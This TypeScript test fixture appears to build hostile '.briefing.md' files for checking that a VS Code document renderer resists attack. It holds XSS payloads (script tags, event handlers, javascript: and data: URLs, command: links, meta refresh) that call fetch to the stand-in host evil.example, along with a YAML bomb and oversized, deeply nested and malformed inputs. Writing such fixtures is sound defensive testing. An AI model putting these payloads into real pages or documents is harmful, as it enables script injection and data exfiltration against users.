import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { yamlBomb } from '../vscode/yamlBomb';

const run = 'window.__pwned=1;top.__pwned=1;fetch(`https://evil.example/`)';

/** Tries to run something in every way that a file has. */
const scripts = `---
briefing: 1
title: '<img src=x onerror="${run}">'
author: '<script>${run}</script>'
abstract: |
  <script>${run}</script> <img src=x onerror="${run}">
  [command](command:workbench.action.closeActiveEditor) [script](javascript:${run}) ![picture](https://evil.example/a.png)
entities:
- id: trap
  kind: '"><svg onload="${run}">'
  name: '[Trap](javascript:${run})'
  aliases: ['<b onmouseover="${run}">trap</b>']
  url: 'javascript:${run}'
  summary: '<iframe srcdoc="<script>${run}</script>"></iframe> [data](data:text/html,<script>${run}</script>)'
  facts:
  - {label: '<script>${run}</script>', value: '<img src=x onerror="${run}">', cite: '[@a]'}
references:
- id: a
  type: webpage
  title: '"><script>${run}</script><style>*{display:none}</style>'
  URL: 'javascript:${run}'
---

# <b onclick="${run}">One</b> {#one onclick="${run}" style="position:fixed"}

<script>${run}</script>

<form action="https://evil.example/"><input autofocus onfocus="${run}"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">

[press me](javascript:${run}) [press me too](command:workbench.action.closeActiveEditor) [trap](#trap) [@a].

[A claim]{#c .claim by="<img src=x onerror='${run}'>" standing=stated onclick="${run}"}
`;

const head = '---\nbriefing: 1\ntitle: Heavy\n---\n\n# Heavy\n\n';

/** The files that each do harm in one way, by name, and what of them a reader sees all the same. */
export const hostileFiles: ReadonlyMap<
	string,
	{ readonly content: () => string | Buffer; readonly seen: string }
> = new Map([
	['scripts', { content: () => scripts, seen: 'press me too' }],
	[
		'nesting',
		{ content: () => `${head}${'> '.repeat(20_000)}deep\n\n${'['.repeat(20_000)}\n\nEnd.\n`, seen: 'End.' },
	],
	['bomb', { content: () => yamlBomb, seen: 'problem' }],
	[
		'bytes',
		{
			content: () =>
				Buffer.from([...Buffer.from(head), 0xff, 0xfe, 0xc0, 0x80, ...Buffer.from(' Legible.\n')]),
			seen: 'Legible.',
		},
	],
	[
		'large',
		{ content: () => `${head}${'DeepSeek said so, and more. '.repeat(190_000)}\n\nEnd.\n`, seen: 'End.' },
	],
	[
		'huge',
		{ content: () => Buffer.alloc(50 * 1024 * 1024, `${head}${'a '.repeat(500)}\n`), seen: 'problem' },
	],
]);

/** Writes one of them into a folder; gives its name there. */
export function writeHostileFile(folder: string, name: string): string {
	const file = `${name}.briefing.md`;
	writeFileSync(path.join(folder, file), hostileFiles.get(name)?.content() ?? '');
	return file;
}
